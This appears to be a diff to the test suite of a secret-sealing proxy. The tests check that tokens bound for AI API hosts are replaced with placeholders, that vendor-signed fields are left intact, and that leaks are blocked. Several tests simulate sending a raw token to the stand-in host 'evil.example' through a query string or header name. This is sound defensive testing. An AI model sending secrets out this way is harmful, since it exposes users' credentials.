@@ -115,16 +115,54 @@ def test_provider_gets_everything_sealed_and_never_blocks(values):
 
 
 def test_provider_signed_fields_are_never_changed(values):
-    v = values["github/pat"].decode()
-    # A vendor-written signature that happens to hold the value's text is left alone.
-    body = json.dumps({"content": [{"type": "thinking", "thinking": v, "signature": "EqQB" + v}, {"type": "redacted_thinking", "data": v}]}).encode()
-    spans = protected_spans(body)
-    assert len(spans) == 2
+    import base64 as b64
+
+    v = values["github/pat"]
+    # A vendor signature is a long base64 blob; by chance it may hold a stretch
+    # that reads as the base64 of a value. Re-encoding it would break the
+    # conversation, so base64 inside signed fields is left alone...
+    blob = b64.b64encode(b"\x07" * 30 + v + b"\x01" * 30).decode()
+    body = json.dumps(
+        {
+            "content": [
+                {"type": "thinking", "thinking": "see " + v.decode(), "signature": blob},
+                {"type": "redacted_thinking", "data": blob},
+                {"type": "reasoning", "encrypted_content": blob},
+            ]
+        }
+    ).encode()
+    assert len(protected_spans(body)) == 3
     out = make_engine(values).process_request(req("api.anthropic.com", body=body, method="POST", ct="application/json"))
     doc = json.loads(out.request.body)
-    assert doc["content"][0]["thinking"] == "{{secret:github/pat}}"
-    assert doc["content"][0]["signature"] == "EqQB" + v
-    assert doc["content"][1]["data"] == v
+    assert doc["content"][0]["thinking"] == "see {{secret:github/pat}}"
+    assert doc["content"][0]["signature"] == blob
+    assert doc["content"][1]["data"] == blob
+    assert doc["content"][2]["encrypted_content"] == blob
+
+
+def test_raw_value_in_a_field_named_like_a_signed_field_is_sealed(values):
+    # ...but a raw value there was not written by the vendor.
+    v = values["github/pat"].decode()
+    body = json.dumps({"tool_input": {"signature": v}}).encode()
+    out = make_engine(values).process_request(req("api.anthropic.com", body=body, method="POST", ct="application/json"))
+    assert json.loads(out.request.body) == {"tool_input": {"signature": "{{secret:github/pat}}"}}
+
+
+def test_value_spanning_query_pieces_is_sealed(values):
+    tok = values["gitlab/token"] + b"&x=" + b"y" * 8  # a raw value holding '&'
+    engine = make_engine({**values, "gitlab/token": tok})
+    out = engine.process_request(req("api.openai.com", query=b"a=1&t=" + tok + b"&b=2"))
+    assert tok not in flat(out.request)
+    out = engine.process_request(req("evil.example", query=b"t=" + tok))
+    assert out.block.code == "plaintext_egress"
+
+
+def test_value_as_header_name(values):
+    v = values["github/pat"]
+    out = make_engine(values).process_request(req("evil.example", headers=[(v, b"1")]))
+    assert out.block.code == "plaintext_egress" and "a header name" in out.block.message
+    out = make_engine(values).process_request(req("api.openai.com", headers=[(b"a", b"b"), (v, b"1")]))
+    assert out.block is None and out.request.headers == [(b"a", b"b")]
 
 
 def test_basic_auth_injection_git_style(values):
